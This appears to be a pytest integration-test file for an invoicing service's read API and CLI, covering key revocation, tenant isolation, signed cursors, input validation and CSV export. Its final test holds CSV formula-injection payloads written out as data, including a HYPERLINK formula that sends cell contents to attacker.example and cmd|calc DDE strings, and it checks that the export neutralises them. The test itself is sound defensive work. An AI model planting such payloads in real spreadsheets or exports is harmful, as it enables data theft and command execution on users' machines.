"""The read API and the read commands of the CLI against the real stack: keys created and revoked
by the CLI reach every reading service, each account reads only its own invoices and payments,
and another account's key gets nothing from any route."""

import asyncio
import base64
import csv
import io
import json
import os
import re
import subprocess
import sys
import uuid
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from contracts.messages import MessageData
from contracts.messages.common import Customer
from contracts.messages.credit_notes import CreateCreditNote
from contracts.messages.invoices import FinalizeInvoice, SendInvoice, UpdateInvoice, VoidInvoice
from contracts.messages.payments import BankTransactionReceived, RecordPayment
from tests.integration.factories import CUSTOMER_ADDRESS, PAYEE_IBAN, configure_account, create_invoice
from tests.integration.harness import ClockOffsets, env, internal_url

READERS = ("invoices", "payments", "numbering")


async def invoicing(*args: str, api_key: str | None = None) -> subprocess.CompletedProcess:
    """The CLI as a person runs it, in a thread: the test's event loop keeps serving the Kafka
    consumers of the session (a loop blocked past their session timeout drops them from their group)."""
    # Wide enough for every column of a table, as in a terminal window.
    environment = {**os.environ, "COLUMNS": "250", **({"INVOICING_API_KEY": api_key} if api_key else {})}
    return await asyncio.to_thread(subprocess.run, [sys.executable, "-m", "cli", *args], capture_output=True,
                                   text=True, timeout=60, env=environment)


def url(service: str, path: str) -> str:
    return f"http://127.0.0.1:{env(f'{service.upper()}_HTTP_PORT')}{path}"


async def read(service: str, path: str, key: str | None, **params) -> httpx.Response:
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    async with httpx.AsyncClient(timeout=10) as client:
        return await client.get(url(service, path), params=params, headers=headers)


async def accepted_everywhere(key: str, accepted: bool = True) -> None:
    """Keys travel as events: each reading service knows a new one (or its revocation) soon."""
    probes = {"invoices": "/v1/invoices", "payments": "/v1/payments/unmatched",
              "numbering": "/v1/numbering/continuity"}
    for _ in range(200):
        answers = [await read(service, probes[service], key) for service in READERS]
        if all((answer.status_code == 200) == accepted for answer in answers):
            return
        await asyncio.sleep(0.1)
    raise AssertionError(f"key not {'accepted' if accepted else 'refused'} by every reading service")


async def new_key(account: str) -> dict:
    created = await invoicing("keys", "create", "--account", account, "--label", "tests", "--json",
                        "--bootstrap", env("KAFKA_BOOTSTRAP_SERVERS"))
    assert created.returncode == 0, created.stderr
    return json.loads(created.stdout)


@pytest.fixture(scope="module")
def accounts():
    return {name: f"acct_{name}_{uuid.uuid4().hex[:8]}" for name in ("a", "b")}


@pytest.fixture(scope="module")
async def keys(accounts):
    return {name: await new_key(account) for name, account in accounts.items()}


@pytest.fixture(scope="module")
async def books(services, producer, event_log, accounts, keys):
    """Account a: a past-due, partly paid and sent invoice, a void one, a draft, an unmatched transfer.
    Account b: one open invoice and an unmatched transfer."""

    async def ask(message: MessageData, answer_type: str, account: str) -> None:
        sent = await producer.send(message, account_id=account)
        await event_log.wait_for(lambda r: r.type == answer_type
                                 and r.headers.get("ce_correlationid") == str(sent.correlationid))

    a, b = accounts["a"], accounts["b"]
    ids = {name: f"inv_{name}_{uuid.uuid4().hex[:8]}" for name in ("a1", "a2", "a3", "b1")}
    for account in (a, b):
        await ask(configure_account(account), "account.configured", account)
    # Due on the day it is issued; the account's clock then moves two days on (a due date before the
    # issue date is refused).
    await ask(create_invoice(ids["a1"], days_until_due=0), "invoice.created", a)
    await ask(create_invoice(ids["a2"], customer=Customer(name="Initech", email=["ap@initech.example"], address=CUSTOMER_ADDRESS),
                             due_date=date(2030, 6, 30)), "invoice.created", a)
    await ask(create_invoice(ids["a3"]), "invoice.created", a)
    await ask(create_invoice(ids["b1"]), "invoice.created", b)
    for name, account in (("a1", a), ("a2", a), ("b1", b)):
        await ask(FinalizeInvoice(invoice_id=ids[name]), "invoice.finalized", account)
    clock = ClockOffsets(Path(env("INVOICES_CLOCK_OFFSETS_FILE")))
    clock.move_to(a, datetime.now(UTC) + timedelta(days=2))
    await event_log.wait_for_type("invoice.past_due", ids["a1"])  # announced by its clock
    await ask(UpdateInvoice(invoice_id=ids["a1"], changes={"memo": "Second reminder"}), "invoice.updated", a)
    await ask(RecordPayment(invoice_id=ids["a1"], payment_id="cash-1", amount=10_000, currency="EUR",
                            paid_on=date(2026, 11, 3), method="cash"), "invoice.payment_applied", a)
    await ask(SendInvoice(invoice_id=ids["a1"]), "invoice.sent", a)
    await ask(VoidInvoice(invoice_id=ids["a2"], reason="Issued twice"), "invoice.voided", a)
    for account, tx in ((a, "tx-a-1"), (b, "tx-b-1")):
        await ask(BankTransactionReceived(transaction_id=tx, iban=PAYEE_IBAN, amount=500, currency="EUR",
                                          booked_on=date(2026, 11, 5), remittance_information="thanks!",
                                          debtor_name="Someone"), "payment.unmatched", account)
    for key in keys.values():
        await accepted_everywhere(key["key"])
    yield ids
    clock.forget(a)


async def test_an_account_lists_filters_sorts_and_pages_its_invoices(books, keys):
    key = keys["a"]["key"]
    listed = (await read("invoices", "/v1/invoices", key, sort="due_date")).json()
    assert [i["id"] for i in listed["data"]] == [books["a1"], books["a2"], books["a3"]]  # the draft's date: last
    assert listed["data"][0]["past_due"] and not listed["data"][1]["past_due"]
    assert listed["data"][0]["amount_paid"] == 10_000 and listed["data"][0]["last_sent_at"]

    async def ids(**params):
        response = await read("invoices", "/v1/invoices", key, **params)
        assert response.status_code == 200, response.text
        return [i["id"] for i in response.json()["data"]]

    assert await ids(status="void") == [books["a2"]]
    assert set(await ids(status=["open", "draft"])) == {books["a1"], books["a3"]}
    assert await ids(customer="Initech") == [books["a2"]]
    assert await ids(past_due="true") == [books["a1"]]
    assert await ids(due_from="2030-01-01", due_to="2030-12-31") == [books["a2"]]
    assert await ids(currency="USD") == []
    number = (await read("invoices", f"/v1/invoices/{books['a2']}", key)).json()["invoice"]["number"]
    assert await ids(number=number) == [books["a2"]]
    total = (await read("invoices", f"/v1/invoices/{books['a1']}", key)).json()["invoice"]["total"]
    assert set(await ids(amount_min=total, amount_max=total)) == {books["a1"], books["a2"], books["a3"]}
    assert await ids(amount_min=total + 1) == []
    assert await ids(sort="-due_date") == [books["a3"], books["a2"], books["a1"]]

    walked, cursor = [], None
    while True:
        page = await read("invoices", "/v1/invoices", key, sort="number", limit=1,
                          **({"cursor": cursor} if cursor else {}))
        walked += [i["id"] for i in page.json()["data"]]
        if not page.json()["has_more"]:
            break
        cursor = page.json()["next_cursor"]
    assert walked == await ids(sort="number") and len(walked) == 3

    assert (await read("invoices", "/v1/invoices", key, sort="customer")).status_code == 422
    assert (await read("invoices", "/v1/invoices", key, cursor="%%%")).status_code == 400
    # A cursor continues only the list it was made for.
    cursor = (await read("invoices", "/v1/invoices", key, sort="number", limit=1)).json()["next_cursor"]
    assert (await read("invoices", "/v1/invoices", key, sort="number", limit=2, cursor=cursor)).status_code == 200
    for other_list in ({"sort": "-number"}, {"sort": "due_date"}, {"sort": "number", "status": "open"}):
        refused = await read("invoices", "/v1/invoices", key, cursor=cursor, **other_list)
        assert refused.status_code == 400 and "not one this API gave out" in refused.json()["detail"], other_list


async def test_one_invoice_its_flags_history_and_payments(books, keys, accounts):
    key = keys["a"]["key"]
    shown = (await read("invoices", f"/v1/invoices/{books['a1']}", key)).json()
    assert shown["flags"] == {"past_due": True, "partially_paid": True, "last_sent_at": shown["flags"]["last_sent_at"],
                              "last_sent_to": ["ap@globex.example"]}
    assert [p["payment_id"] for p in shown["payments"]] == ["cash-1"]

    history = (await read("invoices", f"/v1/invoices/{books['a1']}/history", key)).json()["data"]
    actions = [entry["action"] for entry in history]
    assert actions[:3] == ["created", "finalization_requested", "finalized"]
    assert {"updated", "payment_applied", "send_requested", "email_sent"} <= set(actions)
    updated = next(entry for entry in history if entry["action"] == "updated")
    assert updated["changes"] == [{"field": "memo", "before": "Thank you for your business.",
                                   "after": "Second reminder"}]
    assert updated["actor"] == "user:test"
    finalized = next(entry for entry in history if entry["action"] == "finalized")
    assert (finalized["status_from"], finalized["status_to"]) == ("draft", "open")

    void = (await read("invoices", f"/v1/invoices/{books['a2']}", key)).json()["invoice"]
    assert void["status"] == "void"
    by_number = await read("invoices", f"/v1/invoices/by-number/{void['number']}", key)
    assert by_number.status_code == 200 and by_number.json()["invoice"]["id"] == books["a2"]
    totals = (await read("invoices", "/v1/invoices/totals", key)).json()
    assert totals == [{"currency": "EUR", "count": 3, "total": 2 * shown["invoice"]["total"], "amount_paid": 10_000,
                       "amount_remaining": shown["invoice"]["amount_remaining"] + shown["invoice"]["total"]}]

    payments = (await read("payments", f"/v1/invoices/{books['a1']}/payments", key)).json()["data"]
    assert [(p["payment_id"], p["amount"], p["match"]) for p in payments] == [("cash-1", 10_000, "manual")]
    # The account's own view: none of the store's bookkeeping, not its internal key.
    assert set(payments[0]) == {"payment_id", "account_id", "invoice_id", "amount", "currency", "paid_on", "method", "match",
                                "transaction_id", "note", "removed", "removal_reason"}
    queue = (await read("payments", "/v1/payments/unmatched", key)).json()
    assert [(t["transaction_id"], t["reason"]) for t in queue["data"]] == [("tx-a-1", "no_reference")]
    assert queue["data"][0]["reason_text"]


async def test_the_continuity_report_of_the_accounts_series(books, keys, accounts):
    [report] = (await read("numbering", "/v1/numbering/continuity", keys["a"]["key"])).json()
    assert report["series_key"] == f"{accounts['a']}/INV-{{yyyy}}-{{seq:05}}" and report["breaks"] == 0
    [sequence] = report["sequences"]
    assert (sequence["first"], sequence["last"], sequence["held"], sequence["gaps"]) == (1, 2, 2, [])
    only = await read("numbering", "/v1/numbering/continuity", keys["a"]["key"], number_format="INV-{yyyy}-{seq:05}")
    assert only.json() == [report]
    assert (await read("numbering", "/v1/numbering/continuity", keys["a"]["key"], number_format="X-{seq}")).json() == []
    table = await invoicing("numbering", "continuity", api_key=keys["a"]["key"])
    assert table.returncode == 0 and "1-2" in table.stdout


async def test_the_csv_export_has_a_header_and_amounts_in_major_units(books, keys):
    response = await read("invoices", "/v1/invoices/export.csv", keys["a"]["key"], sort="due_date")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["id"] for row in rows] == [books["a1"], books["a2"], books["a3"]]
    shown = (await read("invoices", f"/v1/invoices/{books['a1']}", keys["a"]["key"])).json()["invoice"]
    assert rows[0]["total"] == f"{shown['total'] // 100}.{shown['total'] % 100:02d}"
    assert rows[0]["amount_paid"] == "100.00" and rows[0]["past_due"] == "true" and rows[1]["status"] == "void"


async def routes_of(service: str) -> list[str]:
    async with httpx.AsyncClient(timeout=10) as client:
        document = (await client.get(internal_url(service, "/docs/openapi.json"))).json()
    return [path for path, operations in document["paths"].items() if "get" in operations]


async def test_another_accounts_key_gets_nothing_from_any_route(books, keys, accounts):
    """Every route, with account b's key and account a's ids: 404 like a missing invoice, or an
    answer that names nothing of a's; without a key or with a wrong one: 401."""
    a_values = {*books.values(), "tx-a-1", "cash-1", accounts["a"]} - {books["b1"]}
    # Numbers count per account: b's only invoice holds the first, a's second is a's alone.
    a_number = (await read("invoices", f"/v1/invoices/{books['a2']}", keys["a"]["key"])).json()["invoice"]["number"]
    walked = 0
    for service in READERS:
        for route in await routes_of(service):
            path = route.replace("{invoice_id}", books["a1"]).replace("{number}", a_number).replace(
                "{credit_note_id}", "cn_none")
            for key in (None, "key_0000000000000000.wrong", keys["a"]["key"].split(".")[0] + ".forged"):
                assert (await read(service, path, key)).status_code == 401, (service, route)
            answer = await read(service, path, keys["b"]["key"])
            if "{" in route:
                assert answer.status_code == 404, (service, route, answer.text)
                assert answer.json() == {"detail": "No such credit note." if "credit_note" in route else "No such invoice."}
            else:
                assert answer.status_code == 200, (service, route, answer.text)
                assert not any(value in answer.text for value in a_values), (service, route, answer.text)
            walked += 1
    assert walked == sum([len(await routes_of(service)) for service in READERS]) >= 9
    assert (await read("invoices", f"/v1/invoices/{books['b1']}", keys["b"]["key"])).status_code == 200
    assert (await read("invoices", "/v1/invoices/inv_missing_at_all", keys["b"]["key"])).json() == {
        "detail": "No such invoice."}


async def test_the_cli_reads_as_tables_or_json_and_says_what_went_wrong(books, keys):
    key = keys["a"]["key"]
    table = await invoicing("invoices", "list", "--sort", "due_date", api_key=key)
    assert table.returncode == 0, table.stderr
    assert books["a1"] in table.stdout and "past due" in table.stdout
    listed = json.loads((await invoicing("invoices", "list", "--status", "void", "--json", api_key=key)).stdout)
    assert [i["id"] for i in listed["data"]] == [books["a2"]]
    shown = await invoicing("invoices", "show", books["a1"], api_key=key)
    assert shown.returncode == 0 and "ap@globex.example" in shown.stdout
    history = json.loads((await invoicing("invoices", "history", books["a1"], "--json", api_key=key)).stdout)
    assert history["data"][0]["action"] == "created"
    assert "Second reminder" in (await invoicing("invoices", "history", books["a1"], api_key=key)).stdout
    exported = await invoicing("invoices", "export", "--past-due", api_key=key)
    assert exported.stdout.splitlines()[0].startswith("id,number,status") and len(exported.stdout.splitlines()) == 2
    unmatched = await invoicing("payments", "unmatched", api_key=key)
    assert unmatched.returncode == 0 and "tx-a-1" in unmatched.stdout and "no_reference" in unmatched.stdout

    missing = await invoicing("invoices", "show", books["b1"], api_key=key)
    assert missing.returncode == 1 and "not found" in missing.stderr
    refused = await invoicing("invoices", "list", api_key="key_0000000000000000.nope")
    assert refused.returncode == 3 and "API key was refused" in refused.stderr
    bad = await invoicing("invoices", "list", "--sort", "colour", api_key=key)
    assert bad.returncode == 2 and "sort" in bad.stderr


async def test_a_revoked_key_is_refused_everywhere(services, accounts):
    created = await new_key(accounts["b"])
    await accepted_everywhere(created["key"])
    revoked = await invoicing("keys", "revoke", created["key_id"], "--account", accounts["b"],
                        "--bootstrap", env("KAFKA_BOOTSTRAP_SERVERS"))
    assert revoked.returncode == 0, revoked.stderr
    await accepted_everywhere(created["key"], accepted=False)
    refused = await invoicing("keys", "revoke", created["key"], "--account", accounts["b"])
    assert refused.returncode == 2 and "key id" in refused.stderr
    # Revoked already, another account's, never made: not found (1), and nothing is published.
    for key_id, account in ((created["key_id"], accounts["b"]), (created["key_id"], accounts["a"]),
                            ("key_0000000000000000", accounts["b"])):
        missing = await invoicing("keys", "revoke", key_id, "--account", account,
                                  "--bootstrap", env("KAFKA_BOOTSTRAP_SERVERS"))
        assert missing.returncode == 1, missing.stderr
        assert "nothing revoked" in missing.stderr or "revoked already" in missing.stderr


async def test_cursors_are_signed_and_only_continue_their_accounts_list(books, keys):
    """Any text that is not a cursor this deployment made for this account and list is 400 (it was
    500 for `AAAA` and `%C3%A9`, and any base64 text was a page)."""
    a, b = keys["a"]["key"], keys["b"]["key"]
    made = (await read("invoices", "/v1/invoices", a, sort="due_date", limit=1)).json()["next_cursor"]
    position = made.split(".")[0]
    unsigned = base64.urlsafe_b64encode(f"2020-01-31 {books['a1']}".encode()).decode().rstrip("=")
    for route in ("/v1/invoices", "/v1/payments/unmatched"):
        service = "payments" if "payments" in route else "invoices"
        for cursor in ("AAAA", "é", "%%%", unsigned, position, f"{position}.AAAA", made + "A"):
            refused = await read(service, route, a, cursor=cursor)
            assert refused.status_code == 400, (route, cursor, refused.text)
            assert refused.json() == {"detail": "The cursor is not one this API gave out for this account, filter "
                                                "and sort: ask for the first page again."}
    # Account b with account a's cursor: refused, not a page of b's.
    assert (await read("invoices", "/v1/invoices", b, sort="due_date", cursor=made)).status_code == 400
    assert (await read("payments", "/v1/payments/unmatched", a, cursor=made)).status_code == 400


async def operations(service: str) -> dict[str, dict]:
    async with httpx.AsyncClient(timeout=10) as client:
        document = (await client.get(internal_url(service, "/docs/openapi.json"))).json()
    return {path: operations["get"] for path, operations in document["paths"].items()}


async def test_invalid_text_in_any_path_or_parameter_is_422_before_any_query(books, keys):
    """NUL, other control characters, bytes that are not UTF-8 and over-long values, on every route
    of every service (they were 500; the export was 200 that broke off with an empty body)."""
    key = keys["a"]["key"]
    checked = 0
    async with httpx.AsyncClient(timeout=10, headers={"Authorization": f"Bearer {key}"}) as client:
        for service in READERS:
            for route, operation in (await operations(service)).items():
                path = route.replace("{invoice_id}", books["a1"]).replace("{number}", "INV")
                strings = [p["name"] for p in operation.get("parameters", []) if p["in"] == "query"
                           and "string" in json.dumps(p["schema"])]
                probes = [f"{path}?{name}={bad}" for name in strings for bad in ("%00", "a%0Db", "%FF", "x" * 1001)]
                if "{" in route:
                    probes += [route.replace("{invoice_id}", "x%00y").replace("{number}", "x%00y").replace(
                                   "{credit_note_id}", "x%00y"),
                               route.replace("{invoice_id}", "x%1By").replace("{number}", "x%7Fy").replace(
                                   "{credit_note_id}", "x%1By")]
                for probe in probes:
                    answer = await client.get(url(service, probe))
                    assert answer.status_code == 422, (service, probe, answer.status_code, answer.text[:200])
                    [problem] = answer.json()["detail"]
                    assert problem["type"] == "invalid_characters" and problem["msg"], problem
                    checked += 1
    assert checked >= 30
    export = await read("invoices", "/v1/invoices/export.csv", key, customer="\x00")
    assert export.status_code == 422 and export.headers["content-type"] == "application/json"


async def test_every_status_a_route_answers_is_one_its_document_declares(books, keys, accounts, producer, event_log):
    """Each route provoked into each status it can answer on a healthy stack (503, the store away,
    is the unit tests'): what it answers is declared, and what it declares it answers."""
    key = keys["a"]["key"]
    number = (await read("invoices", f"/v1/invoices/{books['a1']}", key)).json()["invoice"]["number"]
    # A credit note to show (the last test of the books: the others read a1 uncredited).
    await producer.send(CreateCreditNote(invoice_id=books["a1"], credit_note_id="cn_statuses", amount=100),
                        account_id=accounts["a"])
    await event_log.wait_for(lambda r: r.type == "credit_note.issued" and r.headers.get("ce_subject") == books["a1"])
    for service in READERS:
        for route, operation in (await operations(service)).items():
            declared = set(map(int, operation["responses"]))
            names = {p["name"] for p in operation.get("parameters", [])}
            path = route.replace("{invoice_id}", books["a1"]).replace("{number}", number).replace(
                "{credit_note_id}", "cn_statuses")
            answered = {
                (await read(service, path, key)).status_code,  # 200
                (await read(service, path, None)).status_code,  # 401
                (await read(service, path, key, anything="\x00")).status_code,  # 422
            }
            if "{" in route:  # 404
                missing = route.replace("{invoice_id}", "inv_nobodys").replace("{number}", "NOBODY-1").replace(
                    "{credit_note_id}", "cn_nobodys")
                answered.add((await read(service, missing, key)).status_code)
            if "cursor" in names:  # 400
                answered.add((await read(service, path, key, cursor="AAAA")).status_code)
            if route.endswith("/pdf"):  # 409: a draft has no document
                answered.add((await read(service, route.replace("{invoice_id}", books["a3"]), key)).status_code)
            assert answered <= declared, (service, route, answered - declared)
            assert declared - {503} <= answered, (service, route, declared - {503} - answered)


async def test_the_export_neutralises_cells_a_spreadsheet_would_run(services, producer, event_log):
    """Customer names that start like formulas are exported as text; amounts stay numbers."""
    account = f"acct_csv_{uuid.uuid4().hex[:8]}"
    names = ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "+31 Budget B.V."]
    sent = await producer.send(configure_account(account), account_id=account)
    await event_log.wait_for(lambda r: r.type == "account.configured" and r.headers.get("ce_correlationid") == str(sent.correlationid))
    for n, name in enumerate(names):
        invoice_id = f"inv_csv{n}_{uuid.uuid4().hex[:8]}"
        await producer.send(create_invoice(invoice_id, customer=Customer(name=name, address=CUSTOMER_ADDRESS)), account_id=account)
        await event_log.wait_for_type("invoice.created", invoice_id)
    key = (await new_key(account))["key"]
    await accepted_everywhere(key)
    exported = await read("invoices", "/v1/invoices/export.csv", key)
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert sorted(row["customer"] for row in rows) == sorted(f"'{name}" for name in names)
    assert all(re.fullmatch(r"-?\d+\.\d\d", row["total"]) for row in rows)
